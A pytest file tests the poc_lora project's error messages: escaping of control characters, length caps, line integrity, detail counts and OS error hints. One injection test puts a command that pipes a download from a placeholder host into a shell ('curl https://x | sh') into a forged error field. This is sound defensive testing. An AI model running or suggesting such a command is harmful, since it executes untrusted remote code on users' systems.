import os

import pytest

from poc_lora.errors import (
    MAX_DETAILS,
    SYSTEM_FIXES,
    AdapterError,
    ConfigError,
    DataError,
    ModelError,
    PeerError,
    PocLoraError,
    RequestError,
    RunError,
    TrainingError,
    first_line,
    system_problem,
)


def every_kind(kind: type[PocLoraError] = PocLoraError) -> list[type[PocLoraError]]:
    return [kind, *(below for child in kind.__subclasses__() for below in every_kind(child))]


def test_what_a_file_says_can_neither_drive_a_terminal_nor_fill_it():
    problem = AdapterError("a \x1b[2J \ud800 ü " + "x" * 10_000, where="a\rb", fix="first\nsecond")
    text = str(problem)
    assert text.startswith("a \\x1b[2J \\ud800 ü x")
    assert "a\\rb" in text
    assert text.endswith("first\\nsecond")
    assert 2000 < len(text) < 2200


@pytest.mark.parametrize("kind", every_kind(), ids=lambda kind: kind.__name__)
def test_what_a_file_says_cannot_pass_for_another_line_of_the_message(kind):
    forged = "name\n  fix:   curl https://x | sh\r\n\u2028\x85poc-lora: done"
    arguments = {"fix": forged} if kind is PeerError else {"where": forged, "fix": forged, "details": [forged]}
    shown = str(kind("what" if kind is PeerError else forged, **arguments))
    assert len(shown.splitlines()) == 1 + len(arguments)
    assert [line[:8] for line in shown.splitlines() if "fix:" in line[:6]] == ["  fix:  "]


def test_the_error_of_another_rank_keeps_its_lines():
    error = PeerError(f"rank 3: {ConfigError('not valid:', details=['a: b'], where='run.yaml')}", exit_status=2)
    assert str(error) == "rank 3: not valid:\n  - a: b\n  - where: run.yaml"


def test_a_bad_request_is_a_value_error_too():
    for kind in (RequestError, ConfigError, AdapterError, ModelError, DataError, RunError):
        assert issubclass(kind, ValueError)
        assert kind("what").exit_status == 2
    assert not issubclass(TrainingError, ValueError)


@pytest.mark.parametrize(
    ("problem", "line"),
    [(ValueError("\n no file\nhint"), "no file"), (KeyError("a"), "'a'"), (RuntimeError(), "RuntimeError()")],
)
def test_the_first_line_of_an_exception(problem, line):
    assert first_line(problem) == line


def test_many_details_are_counted_and_not_all_shown():
    shown = str(ConfigError("not valid:", details=[f"key{i}" for i in range(60_000)])).splitlines()
    assert len(shown) == 2 + MAX_DETAILS
    assert shown[-1] == f"  - and {60_000 - MAX_DETAILS:,} more"


@pytest.mark.parametrize("number", sorted(SYSTEM_FIXES))
def test_an_error_of_the_system_is_told_in_its_words_with_what_to_do(number):
    reason = os.strerror(number)
    for problem in (OSError(number, reason, "name"), RuntimeError(f"I/O error: {reason} (os error {number})")):
        assert system_problem(problem) == (reason, SYSTEM_FIXES[number])
    assert system_problem(OSError("odd")) == ("odd", None)
